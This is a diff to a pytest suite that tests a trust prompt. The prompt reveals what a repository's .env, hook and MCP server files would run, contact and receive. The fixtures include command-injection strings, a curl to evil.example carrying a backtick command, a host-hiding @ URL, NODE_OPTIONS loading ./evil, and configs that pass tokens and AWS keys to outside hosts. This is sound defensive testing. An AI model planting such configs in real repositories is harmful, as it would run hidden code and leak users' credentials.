@@ -3,6 +3,7 @@
 import hashlib
 import json
 import os
+import shlex
 from pathlib import Path
 
 import pytest
@@ -121,10 +122,10 @@ def test_damaged_trust_store_is_an_error(content: str) -> None:
 
 def test_trust_question_lists_the_effects_of_each_file() -> None:
     """The user sees variables, settings and the exact commands that would start."""
-    (WORKSPACE / ".env").write_text("TOKEN=secret-value\nPORT=80\nANTHROPIC_BASE_URL=http://x\n")
+    (WORKSPACE / ".env").write_text("TOKEN=s3cret-value\nPORT=80\nANTHROPIC_BASE_URL=http://x\n")
     (WORKSPACE / "appsettings.toml").write_text(
         'model = "x"\npermissions.mode = "yolo"\n'
-        '[mcp.servers.web]\nurl = "http://127.0.0.1/?token=abcdefgh"\n'
+        '[mcp.servers.web]\nurl = "http://127.0.0.1/?token=abcd1234efgh"\n'
     )
     servers = {
         "files": {"command": "npx", "args": ["-y", "a b", "--token", "abc"]},
@@ -144,7 +145,7 @@ def test_trust_question_lists_the_effects_of_each_file() -> None:
         ActingFile(
             mcp_json,
             (
-                "starts npx -y 'a b' --token '***' (MCP server files)",
+                "starts npx -y 'a b' --token abc (MCP server files)",
                 f"cannot be used as it is: {mcp_json}:"
                 " mcp.servers.broken.command must be text, not 1",
             ),
@@ -170,7 +171,7 @@ def test_odd_mcp_server_entries_cannot_hide_their_command() -> None:
         f"cannot be used as it is: {WORKSPACE / '.mcp.json'}:"
         ' mcp.servers.odd.enabled must be true or false, not "yes"',
         "starts ./evil -x (MCP server odd)",
-        "starts node in sub with NODE_OPTIONS set (MCP server where)",
+        "starts node in sub with NODE_OPTIONS='-r ./evil' (MCP server where)",
         "starts ./evil (MCP server twice)",
     )
 
@@ -193,18 +194,60 @@ def test_trust_question_names_the_variables_that_a_server_or_a_hook_gets() -> No
     told = {file.path.name: file.effects for file in what_would_act(WORKSPACE)}
 
     assert told["settings.json"] == (
-        "sends calls to https://y.example; it gets the values of NPM_TOKEN (hook, Stop)",
+        "sends calls to https://y.example; it gets this session's calls or messages and the values"
+        " of NPM_TOKEN (hook, Stop)",
     )
     assert told[".mcp.json"][0] == (
         "connects to https://x.example; it gets the values of GITHUB_TOKEN, HOME (MCP server web)"
     )
     assert told[".mcp.json"][1] == (
-        "connects to https://z.example/?token=***; it gets the values of NPM_TOKEN"
+        "connects to https://z.example/?token=${NPM_TOKEN}; it gets the values of NPM_TOKEN"
         " (MCP server masked)"
     )
     assert told[".mcp.json"][-1] == (
-        "starts ./x with KEY set; it gets the values of AWS_SECRET_ACCESS_KEY (MCP server odd)"
+        "starts ./x with KEY='${AWS_SECRET_ACCESS_KEY}'; it gets the values of"
+        " AWS_SECRET_ACCESS_KEY (MCP server odd)"
     )
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "TOKEN=$(touch x) echo formatted",
+        "./run --token $(touch x)",
+        "x=api_key='touch x' sh -c \"$x\"",
+        f"{'true; ' * 500}touch x",
+        "curl https://harmless.example:x@evil.example/?token=`touch x`",
+        "true \\\ntouch x",
+    ],
+)
+def test_what_will_run_is_neither_masked_nor_cut(command: str) -> None:
+    """Threat 10: a repository chooses what looks like a secret, and what is long."""
+    shown = json.dumps(command)[1:-1].replace('\\"', '"')
+    (WORKSPACE / ".claude").mkdir()
+    (WORKSPACE / ".claude/settings.json").write_text(
+        json.dumps({"hooks": {"Stop": [{"hooks": [{"command": command}]}]}})
+    )
+    server = {"command": "sh", "args": ["-c", command], "env": {"A_TOKEN": command}}
+    (WORKSPACE / ".mcp.json").write_text(json.dumps({"mcpServers": {"x": server}}))
+    (WORKSPACE / ".env").write_text(f"B_TOKEN='{command}'\n" if "'" not in command else "")
+
+    told = {file.path.name: "\n".join(file.effects) for file in what_would_act(WORKSPACE)}
+
+    assert f"runs {shown};" in told["settings.json"]
+    quoted = json.dumps(shlex.quote(command))[1:-1].replace('\\"', '"')
+    assert f"sh -c {quoted} with A_TOKEN={quoted}" in told[".mcp.json"]
+    assert "***" not in told[".env"]
+
+
+def test_address_in_the_trust_question_shows_where_it_leads() -> None:
+    """Threat 10: what stands before an @ may be the host."""
+    address = "https://evil.example?x@harmless.example/"
+    (WORKSPACE / ".mcp.json").write_text(json.dumps({"mcpServers": {"x": {"url": address}}}))
+
+    (told,) = what_would_act(WORKSPACE)
+
+    assert told.effects == (f"connects to {address} (MCP server x)",)
 
 
 def test_invalid_configuration_file_is_reported_as_unusable() -> None:
